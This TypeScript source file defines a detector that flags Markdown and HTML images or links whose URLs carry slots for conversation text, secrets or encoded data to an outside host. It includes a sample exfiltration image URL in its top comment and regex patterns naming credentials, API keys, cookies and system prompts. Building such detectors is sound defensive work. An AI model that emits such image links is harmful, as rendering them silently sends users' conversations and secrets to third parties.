// Images and links whose URL carries what was said: `![x](https://host/?q={conversation})`. A client that renders the
// answer fetches the image, and the query goes with it.
import type { RecordDetector } from "../../core/detector.ts";
import type { Severity } from "../../core/severity.ts";
import { excerpt, quote } from "../../base/escape.ts";
import { urlsIn, type Url } from "./address.ts";
import { dropHost } from "./drop-hosts.ts";

const QUERY_MAX = 2_048;
// What a slot in the URL is to be filled with.
const SPOKEN =
  /conversation|history|chat|prompt|secret|passw|credential|api[_-]?key|token|user[_ -]?(?:data|input|message|info)|system|context|summary|message|exfil|private|confidential|base64|encoded|diagnos|patient|session|cookie|email|data/i;
const OWNED =
  /conversation|history|system[_ -]?prompt|chat[_ -]?log|secret|passw|credential|api[_-]?key|user[_ -]?(?:data|input|message)|exfil|document\.cookie|对话|会话|聊天|密码|会話|대화|истори|парол|historial|historique|verlauf|conversa/i;
const SLOT =
  /\{\{[^{}]{1,80}\}\}|\$\{[^{}]{1,80}\}|\{[^{}]{1,80}\}|%7b[^{}]{1,80}?%7d|\[[A-Za-z_ -]{3,80}\]|<[A-Za-z_ -]{3,80}>|%s\b/gi;
const MARKDOWN_BEFORE = /!\[[^\]\n]{0,120}\]\(\s?<?$/;
const HTML_BEFORE = /<img\b[^>]{0,200}\bsrc\s?=\s?\\?["']?$/i;
const LINK_BEFORE = /\]\(\s?<?$/;
const ENCODED_VALUE = /[?&][\w-]{1,24}=((?:[A-Za-z0-9+/_-]|%2[bf]){40,}(?:=|%3d){0,2})/i;

export const imageExfiltration: RecordDetector = {
  id: "image-exfiltration",
  family: "network",
  reads: "record",
  title: "An image or link that carries the conversation away",
  severity: "high",
  confidence: "medium",
  maturity: "stable",
  since: "0.1.0",
  references: ["AML.T0057", "LLM02:2025", "LLM05:2025"],
  docs: {
    finds:
      "Markdown and HTML images, and links, whose URL has a slot for conversation text, secrets or user data, or holds encoded text that reads as sentences.",
    matters: "Rendering the answer is enough: no click, no tool. It is the best-known way to leak from chat clients.",
    misses:
      "Data in the path without a slot, host names as carriers (DNS), and clients that fetch previews of plain links.",
    remedy: "Remove the record. In the client, do not load images from hosts that are not yours.",
  },
  subject: { share: 0.05, severity: "low" },
  anchors: [{ at: "://", worth: mayCarry }],
  inspect(record, report) {
    for (const field of record.fields) {
      // Behind a parenthesis, a bracket, a quote or an equals sign: in running text a URL is no part of an element.
      const embedded = (start: number): boolean => /[(<"'=\s\\]/.test(field.text[start - 1] ?? "");
      if (!field.text.includes("](") && !field.text.includes("<img") && !/<img/i.test(field.text)) continue;
      for (const url of urlsIn(field.text, embedded)) {
        const before = field.text.slice(Math.max(0, url.start - 320), url.start);
        const kind = MARKDOWN_BEFORE.test(before.slice(-140))
          ? "image"
          : HTML_BEFORE.test(before.slice(-230))
            ? "element"
            : LINK_BEFORE.test(before.slice(-8))
              ? "link"
              : undefined;
        if (kind === undefined) continue;
        // A slot holds characters that end an ordinary URL: look at the raw text up to the closing parenthesis or quote.
        const raw = field.text.slice(url.start, url.start + QUERY_MAX);
        const close = raw.search(kind === "element" ? /["'>\n]/ : /[)\n]/);
        const whole = close === -1 ? raw : raw.slice(0, close);
        const query = whole.search(/[?=#]/);
        if (query === -1) continue;
        const carried = carries(whole.slice(query), kind);
        if (carried === undefined) continue;
        report({
          message: `an ${kind === "link" ? "address in a link" : "image address"} carries ${quote(carried, 60)} to ${quote(url.host, 60)}`,
          field,
          start: url.start,
          end: url.start + whole.length,
          excerpt: excerpt(field.text, url.start, url.start + whole.length),
          severity: severityOf(kind, carried, url),
          payload: url.host,
          evidence: { host: url.host, carries: carried.slice(0, 200) },
        });
        break;
      }
    }
  },
};

// The same in raw bytes, in any spelling: most addresses are no image's, or hold neither a slot nor a long value.
const RAW_BEFORE =
  /(?:\]\((?:\s|\\[nt])?(?:<|\\u003c|&lt;)?|src\s?(?:=|\\u003d)\s?(?:\\*["']|\\u002[27]|&quot;|&#\d+;)?)[a-z][a-z0-9+.-]{1,11}$/i;
const RAW_SLOT = /[{[<]|%7b|%s|&(?:lt|#)|\\u00|=(?:[\w+/-]|%2[bf]){40}/i;

/** Whether the raw bytes from the middle of the address of an image or link on may hold a slot or encoded text. */
function mayCarry(following: string, before: string): boolean {
  if (!RAW_BEFORE.test(before)) return false;
  const end = following.search(/\]\([^(]{0,19}$/.test(before) ? /\)|\\n|\n/ : />|&gt;|\\u003e/i);
  return RAW_SLOT.test(end === -1 ? following : following.slice(0, end));
}

function carries(query: string, kind: string): string | undefined {
  for (const slot of query.match(SLOT) ?? [])
    if ((kind === "image" && SPOKEN.test(slot)) || OWNED.test(slot)) return slot;
  const value = ENCODED_VALUE.exec(query)?.[1];
  if (value === undefined || kind === "link") return undefined;
  const text = Buffer.from(decodeURIComponent(value.replaceAll(/%(?![0-9a-f]{2})/gi, "%25")), "base64").toString(
    "latin1",
  );
  // Sentences: printable, with spaces and words. Signatures and identifiers are neither.
  return /^[\t\n\r\x20-\x7e]{24,}$/.test(text) && (text.match(/[a-z]{2,} [a-z]{2,}/gi)?.length ?? 0) >= 2
    ? text
    : undefined;
}

const severityOf = (kind: string, carried: string, url: Url): Severity =>
  OWNED.test(carried) || dropHost(url) ? "high" : kind === "image" ? "medium" : "low";
